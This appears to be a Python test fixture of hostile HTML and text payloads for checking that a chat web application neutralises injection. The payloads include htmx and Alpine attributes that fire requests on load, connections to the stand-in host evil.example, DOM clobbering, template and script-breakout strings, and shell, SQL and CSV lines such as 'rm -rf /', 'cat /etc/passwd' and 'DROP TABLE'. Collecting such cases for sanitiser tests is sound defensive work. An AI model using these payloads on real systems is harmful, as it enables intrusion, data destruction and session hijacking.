"""What this program's own pages act on: htmx and Alpine attributes, our scripts' data-* and ids, template syntax."""

HTMX = {
    "hx-get": '<div hx-get="/logout/" hx-trigger="load">x</div>',
    "hx-post": '<div hx-post="/logout/" hx-trigger="load, every 1s, revealed" hx-swap="none">x</div>',
    "hx-delete with data prefix": '<div data-hx-delete="/api/conversations/1" data-hx-trigger="load">x</div>',
    "hx-on": '<b hx-on:click="owned=1" hx-on::load="owned=1" hx-on="htmx:load: owned=1">x</b>',
    "hx-swap-oob": '<div id="log" hx-swap-oob="true">all gone</div>',
    "hx-swap-oob elsewhere": '<div hx-swap-oob="innerHTML:#composer">all gone</div>',
    "hx-swap-oob of ours": '<div hx-swap-oob="upsert:#signals"><data data-type="accepted" data-detail="{}"></data></div>',
    "ws-connect": '<div hx-ext="ws" ws-connect="wss://evil.example/ws">x</div>',
    "ws-send": '<form hx-ext="ws" ws-send hx-trigger="load"><input name="type" value="stop"></form>',
    "hx-ext": '<div hx-ext="evil, upsert, ws" hx-vals="js:{x: owned=1}" hx-get="/" hx-trigger="load">x</div>',
    "hx-boost": '<div hx-boost="true" hx-push-url="https://evil.example" hx-select-oob="#log">x</div>',
    "hx-trigger with a filter": '<div hx-get="/" hx-trigger="click[owned=1] from:body">x</div>',
    "hx-history and hx-disable": '</div></div><div hx-disable="false" hx-history-elt hx-get="/logout/" hx-trigger="load">x</div>',
    "hx-headers": '<div hx-inherit="*" hx-headers=\'{"X-CSRFToken": "x"}\' hx-target="body" hx-get="/" hx-trigger="load">x</div>',
    "htmx settings": '<meta name="htmx-config" content=\'{"allowEval": true, "selfRequestsOnly": false, "allowScriptTags": true}\'>',
    "sse": '<div hx-ext="sse" sse-connect="https://evil.example/events" sse-swap="message">x</div>',
}

ALPINE = {
    "alpine at the start": '<div x-data x-init="owned=1">x</div>',
    "alpine html": '<div x-data="{a: \'<img src=x onerror=owned=1>\'}" x-html="a">x</div>',
    "alpine events": '<div x-data @click.window="owned=1" x-on:load.window="owned=1" :class="owned=1" x-bind:id="owned=1">x</div>',
    "alpine elsewhere": '<div x-data x-teleport="body"><template x-if="owned=1"><b>x</b></template></div>',
}

DATA = {
    "data-answer": '<form data-answer="1"><input name="response" value="yes"><button autofocus>Approve</button></form>',
    "data-confirm": '<form method="post" action="/logout/" data-confirm="" data-confirmed><button>x</button></form>',
    "data-example": '<button type="button" data-example autofocus>delete everything</button>',
    "data-seq": '<article class="entry message" data-seq="999999" data-kind="message" data-run="1" id="m-1">from the future</article>',
    "data-menu": '<div data-menu class="shade" hidden="false">x</div><button data-menu aria-expanded="true">x</button>',
    "data-run": '<article class="entry status" data-run="x" data-ended="succeeded" data-note="owned">x</article>',
    "data-call and data-result": '<details class="card" data-call="1:c"><span class="state" data-state="running"></span></details><i data-result="1:c">',
    "data-request": '<section class="question" data-request="x"><p class="answered"></p></section><p data-answers="x">Answered</p>',
    "data-type": '<data data-type="refused" data-detail=\'{"client_id": "x", "detail": "owned"}\'></data>',
    "data-tell-zone": '<body data-tell-zone="https://evil.example/zone" data-conversation="x" data-login="https://evil.example">',
    "data-client": '<article class="entry" data-client="x" data-seq="0">gone</article>',
    "copy button": '<button class="button copy" autofocus>Copy</button><pre>rm -rf ~</pre>',
    "stop button": '<button id="stop" class="stop">Stop</button><button class="send">Send</button>',
}

IDS = {
    "id log": '<div id="log">x</div><div id="scroll">x</div><div id="chat">x</div>',
    "id confirm": '<dialog id="confirm" open><p id="confirm-question">Sure?</p><button value="yes">x</button></dialog>',
    "id text": '<textarea id="text">owned</textarea><form id="composer"><input name="text"></form>',
    "id of a draft": '<div id="draft-x-turn" data-version="99999999">x</div><div id="drafts"></div><div id="pending"></div>',
    "name of a document's part": "<img name=cookie><form name=body><img name=documentElement></form><a id=location href=//evil.example>x</a>",
    "name of the scripts' globals": "<form id=htmx><input name=config></form><a id=crypto></a><a id=Alpine></a><a id=CSS name=escape></a>",
    "name of the prototype": "<a id=__proto__ name=constructor>x</a><form id=x><output id=y>I am</output></form>",
    "footnote and heading ids": "# log\n\n## text {#composer}\n\n[^1]\n\n[^1]: <b id=log>x</b>",
}

TEMPLATES = {
    "variables": "{{ request.user.password }} {{ settings.SECRET_KEY }} {{ 7|add:7 }}",
    "tags": "{% load admin_urls %}{% debug %}{% include 'admin/base.html' %}{% csrf_token %}",
    "autoescape": "{% autoescape off %}<img src=x onerror=owned=1>{% endautoescape %}{{ '<b>'|safe }}",
    "comments": "{# hidden #}{% comment %}gone{% endcomment %}{% verbatim %}{{ x }}{% endverbatim %}",
    "other languages": "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] {{constructor.constructor('owned=1')()}} %(x)s {0} %s",
    "a script's end": '"}</script></style></textarea></title><script>owned=1</script>',
    "a JSON string's end": '\\"}],"type":"refused","data":{"detail":"owned"}} \\u003cscript\\u003eowned=1\\u003c/script\\u003e',
    "an attribute's end": "\" autofocus onfocus=owned=1 x=\" ' onfocus=owned=1 x='",
    "csv and shell": '=HYPERLINK("https://evil.example","x") +1 @SUM(1) $(reboot) `reboot` ; rm -rf / | cat /etc/passwd',
    "sql": "'; DROP TABLE chat_message; -- %' OR '1'='1 _%",
    "header": "x\r\nSet-Cookie: owned=1\r\nHX-Redirect: https://evil.example\r\n\r\n<script>owned=1</script>",
}

OURS = {**HTMX, **ALPINE, **DATA, **IDS, **TEMPLATES}
